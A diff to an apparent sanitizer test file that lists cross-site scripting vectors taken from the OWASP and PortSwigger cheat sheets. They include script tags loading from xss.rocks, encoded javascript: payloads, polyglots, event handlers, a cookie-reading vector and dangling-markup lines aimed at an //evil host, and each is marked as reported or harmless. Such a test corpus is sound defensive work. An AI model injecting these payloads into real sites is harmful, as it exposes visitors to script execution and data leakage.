@@ -57,6 +57,8 @@ def H(markdown: str) -> tuple[str, str]:  # noqa: N802
 
 
 GROUPS = (
+    # --- The kinds issue #13 measured (issue #13, "What we measured") ---------------------------
+    # Attributes set with { … }: attr_guard.py marks them, the HTML check reports them.
     Group('attr_list', ISSUE, (
         R('[x](index.md){ onclick="alert(1)" }'),
         R('## Rubrik {#id onmouseover=alert(1)}'),
@@ -144,7 +146,8 @@ GROUPS = (
         R('<video src="https://example.com/film.mp4"></video>'),
         R('<video><source src="https://example.com/film.mp4"></video>'),
         R('<audio src="https://example.com/ljud.mp3"></audio>'),
-        R('<picture><source srcset="https://example.com/b.webp"><img src="bild.png" alt="x"></picture>'),
+        R('<picture><source srcset="https://example.com/b.webp"><img src="bild.pn'
+          'g" alt="x"></picture>'),
         R('<video src="film.mp4"><track src="https://example.com/t.vtt"></video>'),
         R('<a href="https://example.com/" ping="https://example.com/log">x</a>'),
         R('<p style="background:url(https://example.com/x.png)">x</p>'),
@@ -158,6 +161,8 @@ GROUPS = (
         H('![Bild](bilder/bild.jpg "titel")'),
         H('[Länk till en annan webbplats](https://example.com/)'),
     )),
+    # Markdown escapes an unfinished tag in a paragraph (harmless text); inside a raw HTML block it
+    # passes, and then swallows the page around it.
     Group('page frame: markup that breaks the page around the text', ISSUE, (
         H('<!-- en kommentar som aldrig stängs\n\nResten av sidan.'),
         R('<b>fet text som aldrig slutar'),
@@ -180,9 +185,13 @@ GROUPS = (
         H('Tryck <kbd>Enter</kbd>.'),
         H('</p>'),
     )),
+    # --- OWASP XSS Filter Evasion Cheat Sheet (sections "Tests" to "URL String Evasion") ---------
+    # Several vectors come out of Markdown as text (it escapes tags it cannot read), or are dropped
+    # by the HTML parser as Chromium drops them (<frameset> in a page): those are HARMLESS here.
     Group('OWASP: script and its disguises', OWASP, (
         R('<SCRIPT SRC=https://example.com/xss.js></SCRIPT>'),
-        H('javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload=\'+/"`/+/onmouseover=1/+/[*/[]/+alert(42);//\'>'),
+        H('javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload'
+          '=\'+/"`/+/onmouseover=1/+/[*/[]/+alert(42);//\'>'),
         R('<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
         R('<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
         R('<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>'),
@@ -206,9 +215,14 @@ GROUPS = (
         H('<IMG SRC= onmouseover="alert(\'xxs\')">'),
         R('<IMG onmouseover="alert(\'xxs\')">'),
         R('<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
-        R('<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">'),
-        R('<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'),
-        R('<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'),
+        R('<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#000'
+          '0099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0'
+          '000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&'
+          '#0000039&#0000041">'),
+        R('<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58'
+          ';&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'),
+        R('<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&'
+          '#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'),
         H('<IMG SRC="jav\tascript:alert(\'XSS\');">'),
         R('<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'),
         R('<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'),
@@ -236,11 +250,13 @@ GROUPS = (
         R('<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>'),
         R('<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>'),
         R('<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">'),
-        R('<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>'),
+        R('<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><'
+          'A CLASS=XSS></A>'),
         R('<XSS STYLE="xss:expression(alert(\'XSS\'))">'),
         R('<XSS STYLE="behavior: url(xss.htc);">'),
         R('<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'),
-        R('<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
+        R('<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcm'
+          'lwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
         R('<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">'),
         R('<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'),
         R('<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'),
@@ -251,7 +267,9 @@ GROUPS = (
         R('<DIV STYLE="width: expression(alert(\'XSS\'));">'),
         R('<BASE HREF="javascript:alert(\'XSS\');//">'),
         R('<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'),
-        R('<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'),
+        R('<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9z'
+          'Y3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EM'
+          'BED>'),
         R('<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'),
         R('<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>'),
         H('<A HREF="http://66.102.7.147/">XSS</A>'),
@@ -259,6 +277,10 @@ GROUPS = (
         H('<A HREF="http://1113982867/">XSS</A>'),
         H('<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>'),
     )),
+    # --- PortSwigger XSS cheat sheet (its data repository, json/<file>.json) ---------------------
+    # The URL-string-evasion links in the OWASP group above that are HARMLESS are ordinary http
+    # links to other hosts written as IP, DWORD, hex or octal addresses: a reader who follows one
+    # leaves the site, as with any link.
     Group('PortSwigger protocols (json/protocols.json)', PORTSWIGGER, (
         R('<iframe src="javascript:alert(1)">'),
         R('<a href="javascript:alert(1)">XSS</a>'),
@@ -267,8 +289,10 @@ GROUPS = (
         H('<a href="javas\tcript:alert(1)">XSS</a>'),
         R('<a href="javascript\n:alert(1)">XSS</a>'),
         R('<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>'),
-        R('<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</text></a>'),
-        R('<svg><set xlink:href=#x attributeName=href to=javascript:alert(1) /><a id=x><text x=20 y=20>XSS</text></a>'),
+        R('<svg><animate xlink:href=#xss attributeName=href values=javascript:ale'
+          'rt(1) /><a id=xss><text x=20 y=20>XSS</text></a>'),
+        R('<svg><set xlink:href=#x attributeName=href to=javascript:alert(1) /><a'
+          ' id=x><text x=20 y=20>XSS</text></a>'),
         R('<script src="data:text/javascript,alert(1)"></script>'),
         R('<svg><script href="data:text/javascript,alert(1)" />'),
         R('<math><x href="javascript:alert(1)">blah'),
@@ -276,7 +300,8 @@ GROUPS = (
         R('<form><input type=submit formaction=javascript:alert(1) value=XSS>'),
         R('<form action=javascript:alert(1)><input type=submit value=XSS>'),
         R('<embed code=https://portswigger-labs.net width=500 height=500 type=text/html>'),
-        R('<object width=500 height=500 type=text/html><param name=url value=https://portswigger-labs.net>'),
+        R('<object width=500 height=500 type=text/html><param name=url value=http'
+          's://portswigger-labs.net>'),
     )),
     Group('PortSwigger encodings (json/encodings.json)', PORTSWIGGER, (
         R('<script>\\u0061lert(1)</script>'),
@@ -326,12 +351,15 @@ GROUPS = (
         H('<embed src="//evil?'),
         R('<form><button formaction=//evil>XSS</button><textarea name=x>'),
         R("<button form=x>XSS</button><form id=x action=//evil target='"),
-        R('<a href=https://example.com/><font size=100 color=red>You must click me</font></a><base target="'),
-        R('<a href=abc style="width:100%;height:100%;position:absolute;font-size:1000px;">xss<base href="//evil/'),
+        R('<a href=https://example.com/><font size=100 color=red>You must click m'
+          'e</font></a><base target="'),
+        R('<a href=abc style="width:100%;height:100%;position:absolute;font-size:'
+          '1000px;">xss<base href="//evil/'),
         H('<video poster="//evil?'),
         H('<input type=hidden type=image src="//evil?'),
     )),
-    Group('PortSwigger obfuscation and special tags (json/obfuscation.json, json/special_tags.json)', PORTSWIGGER, (
+    Group('PortSwigger obfuscation and special tags (json/obfuscation.json, json/special_tags.json)',
+          PORTSWIGGER, (
         R('<script src=data:text/javascript;base64,YWxlcnQoMSk=></script>'),
         R('<iframe srcdoc=&lt;script&gt;alert&lpar;1&rpar;&lt;&sol;script&gt;></iframe>'),
         H('<img src=x onerror=location=atob`amF2YXNjcmlwdDphbGVydChkb2N1bWVudC5kb21haW4p`>'),
@@ -345,20 +373,30 @@ GROUPS = (
     Group('PortSwigger useful tags (json/useful_tags.json)', PORTSWIGGER, (
         R('<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>'),
         R('<iframe srcdoc="&lt;img src=1 onerror=alert(1)&gt;"></iframe>'),
-        R('<form action="javascript:alert(1)"><input type=submit id=x></form><label for=x>XSS</label>'),
+        R('<form action="javascript:alert(1)"><input type=submit id=x></form><lab'
+          'el for=x>XSS</label>'),
         R('<input type="hidden" accesskey="X" onclick="alert(1)">'),
         R('<link rel="canonical" accesskey="X" onclick="alert(1)" />'),
         R('<a href=# download="filename.html">Test</a>'),
         R('<img referrerpolicy="no-referrer" src="//portswigger-labs.net">'),
         R('<base target="alert(1)"><a href="https://example.com/">XSS via target in base tag</a>'),
         R('<a target="alert(1)" href="https://example.com/">XSS via target in a tag</a>'),
-        R('<img src="validimage.png" width="10" height="10" usemap="#xss"><map name="xss"><area shape="rect" coords="0,0,82,126" target="alert(1)" href="https://example.com/"></map>'),
+        R('<img src="validimage.png" width="10" height="10" usemap="#xss"><map na'
+          'me="xss"><area shape="rect" coords="0,0,82,126" target="alert(1)" href'
+          '="https://example.com/"></map>'),
     )),
     Group('PortSwigger polyglots (json/polyglot.json)', PORTSWIGGER, (
-        H('javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>'),
-        H('javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \\"\n onmouseover=/*&lt;svg/*/onload=alert()//>'),
-        H('javascript:/*--></title></style></textarea></script></xmp><details/open/ontoggle=\'+/`/+/"/+/onmouseover=1/+/[*/[]/+alert(/@PortSwiggerRes/)//\'>'),
+        H('javascript:/*--></title></style></textarea></script></xmp><svg/onload='
+          '\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>'),
+        H('javascript:"/*\'/*`/*--></noscript></title></textarea></style></templat'
+          'e></noembed></script><html \\"\n onmouseover=/*&lt;svg/*/onload=alert()/'
+          '/>'),
+        H('javascript:/*--></title></style></textarea></script></xmp><details/ope'
+          'n/ontoggle=\'+/`/+/"/+/onmouseover=1/+/[*/[]/+alert(/@PortSwiggerRes/)/'
+          "/'>"),
     )),
+    # Where the cheat sheet says any tag (<*>), the tags used here are ones the allowlist permits,
+    # so that only the handler makes them unsafe. <td> outside a table is dropped by the parser.
     Group('PortSwigger event handlers (json/events.json)', PORTSWIGGER, (
         R('<body onafterprint=alert(1)>'),
         R('<span style="animation-name:x" onanimationend="alert(1)"></span>'),
@@ -387,7 +425,8 @@ GROUPS = (
         R('<sub onpointerdown=alert(1)>XSS</sub>'),
         R('<body onpageshow=alert(1)>'),
         R('<body onresize="print()">'),
-        R('<blockquote onscrollend=alert(1) style="overflow:auto;height:10px"><br><br><br></blockquote>'),
+        R('<blockquote onscrollend=alert(1) style="overflow:auto;height:10px"><br'
+          '><br><br></blockquote>'),
         R('<form onsubmit=alert(1)><input type=submit>'),
         R('<details ontoggle=alert(1) open>test</details>'),
         R('<summary ontoggle=alert(1) popover id=x>XSS</summary>'),
